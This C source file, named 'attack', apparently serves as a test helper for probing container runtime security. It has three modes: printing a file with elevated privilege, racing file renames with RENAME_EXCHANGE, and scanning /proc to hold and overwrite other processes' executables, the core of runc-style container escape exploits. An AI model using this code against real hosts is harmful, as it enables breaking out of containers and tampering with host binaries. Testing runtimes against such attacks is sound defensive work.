// What a container's program may do that a shell cannot do fast enough. Links nothing dynamic.
//   attack show FILE           prints a file, which a shell with the setuid bit would not do as root
//   attack swap A B            exchanges two names, again and again
//   attack overwrite LOG NEW   holds the program of every process that it sees, and tries to write
//                              NEW over it: a line of LOG for each, "held PID", "refused ERRNO" or "overwritten"
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static int swap(const char *a, const char *b) {
  for (;;) {
    if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) != 0) return 1;
  }
}

static int log_file;

static void tell(const char *what, long number) {
  dprintf(log_file, "%s %ld\n", what, number);
}

// What the image brings is its own to overwrite, and not the runtime's.
static int is_own(const struct stat *seen) {
  const char *own[] = {"/proc/self/exe", "/bin/busybox"};
  for (int i = 0; i < 2; i++) {
    struct stat mine;
    if (stat(own[i], &mine) == 0 && mine.st_dev == seen->st_dev && mine.st_ino == seen->st_ino) return 1;
  }
  return 0;
}

static int hold(int pid) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  struct stat seen;
  int file = open(path, O_PATH | O_CLOEXEC);
  if (file < 0) return -1;
  if (fstat(file, &seen) == 0 && !is_own(&seen)) return file;
  close(file);
  return -1;
}

static int overwrite(const char *log, const char *text) {
  enum { most = 4096 };
  static int done[most];
  static int held[most];
  log_file = open(log, O_WRONLY | O_CREAT | O_APPEND, 0644);
  if (log_file < 0) return 1;
  signal(SIGCHLD, SIG_IGN); // as its namespace's first process it inherits others' children
  for (;;) {
    DIR *proc = opendir("/proc");
    for (struct dirent *entry; proc != NULL && (entry = readdir(proc)) != NULL;) {
      int pid = atoi(entry->d_name);
      if (pid <= 0 || pid >= most || held[pid] != 0) continue;
      int file = hold(pid);
      if (file < 0) continue;
      held[pid] = file;
      tell("held", pid);
    }
    if (proc != NULL) closedir(proc);
    for (int pid = 1; pid < most; pid++) {
      if (held[pid] == 0 || done[pid]) continue;
      char path[64];
      snprintf(path, sizeof path, "/proc/self/fd/%d", held[pid]);
      int file = open(path, O_WRONLY | O_TRUNC);
      if (file < 0 && errno == ETXTBSY) continue;
      done[pid] = 1;
      if (file < 0) {
        tell("refused", errno);
        continue;
      }
      if (write(file, text, strlen(text)) > 0) tell("overwritten", pid);
      close(file);
    }
  }
}

static int show(const char *path) {
  char text[4096];
  int file = open(path, O_RDONLY);
  for (ssize_t length; (length = read(file, text, sizeof text)) > 0;) {
    if (write(1, text, length) != length) return 1;
  }
  return 0;
}

int main(int argc, char **argv) {
  if (argc == 3 && strcmp(argv[1], "show") == 0) return show(argv[2]);
  if (argc == 4 && strcmp(argv[1], "swap") == 0) return swap(argv[2], argv[3]);
  if (argc == 4 && strcmp(argv[1], "overwrite") == 0) return overwrite(argv[2], argv[3]);
  return 2;
}
